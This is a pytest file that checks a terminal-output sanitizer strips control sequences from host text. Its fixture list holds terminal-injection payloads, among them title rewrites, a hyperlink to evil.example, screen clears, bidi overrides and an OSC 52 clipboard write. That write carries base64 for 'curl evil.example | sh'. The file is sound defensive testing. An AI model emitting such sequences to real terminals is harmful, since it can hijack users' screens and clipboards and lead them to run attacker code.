"""Host text reaches a terminal only after every control sequence is gone (colour optional)."""

from __future__ import annotations

import pytest

from rtrain_tui.core.safety.sanitize import safe_line, safe_text

HOSTILE = {
    "osc0 title": "\x1b]0;pwned title\x07",
    "osc2 title st": "\x1b]2;pwned\x1b\\",
    "osc8 link": "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07",
    "osc52 clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "csi 2J": "\x1b[2J",
    "csi alt screen": "\x1b[?1049h",
    "cursor move": "\x1b[10;10H\x1b[A",
    "dcs": "\x1bPq#0;2;0;0;0\x1b\\",
    "apc": "\x1b_Gf=100;AAAA\x1b\\",
    "pm sos": "\x1b^pm\x1b\\\x1bXsos\x1b\\",
    "8-bit csi": "\x9b2J",
    "8-bit osc": "\x9d0;t\x9c",
    "charset": "\x1b(0",
    "save cursor": "\x1b7\x1b8",
    "bel": "\x07",
    "bare cr": "\r",
    "backspace": "\b\b",
    "nul": "\x00",
    "del": "\x7f",
    "unterminated osc": "\x1b]52;c;AAAA",
    "lone esc": "\x1b",
    "bidi override": "\u202e\u2066\u200f",
}


def _terminal_active(text: str) -> bool:
    return any((ord(c) < 32 and c != "\t") or 0x7F <= ord(c) <= 0x9F
               or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
               for c in text)


@pytest.mark.parametrize("name", HOSTILE)
def test_every_hostile_sequence_is_removed(name: str) -> None:
    line = f"before {HOSTILE[name]} after"
    out = safe_line(line)
    assert not _terminal_active(out), repr(out)
    assert out.startswith("before")
    # An unterminated string swallows the rest, as the terminal would; ESC SP a is a sequence.
    assert out.endswith("after") or name in ("unterminated osc", "lone esc")
    assert not _terminal_active(safe_line(line, keep_sgr=True))


def test_payloads_inside_sequences_do_not_leak_as_text() -> None:
    assert safe_line("a\x1b]0;pwned title\x07b") == "ab"
    assert safe_line("a\x1b]52;c;Y3Vy\x1b\\b") == "ab"
    assert safe_line("\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07") == "click"


def test_sgr_colour_is_kept_only_when_asked() -> None:
    line = "\x1b[1;31mloss\x1b[0m 0.5"
    assert safe_line(line) == "loss 0.5"
    assert safe_line(line, keep_sgr=True) == line
    assert safe_line("\x1b[31;2Jx", keep_sgr=True) == "x"


def test_plain_lines_are_returned_as_they_are() -> None:
    line = "{'loss': 0.5, 'step': 4}\twith a tab, ünïcode and [markup]"
    assert safe_line(line) is line


def test_line_ends_become_spaces_so_the_result_is_one_line() -> None:
    assert safe_line("progress 1/5\rprogress 2/5") == "progress 1/5 progress 2/5"
    assert safe_line("a\nb\r\nc") == "a b c"
    assert safe_text("one\x1b[2J\ntwo\x07") == "one\ntwo"
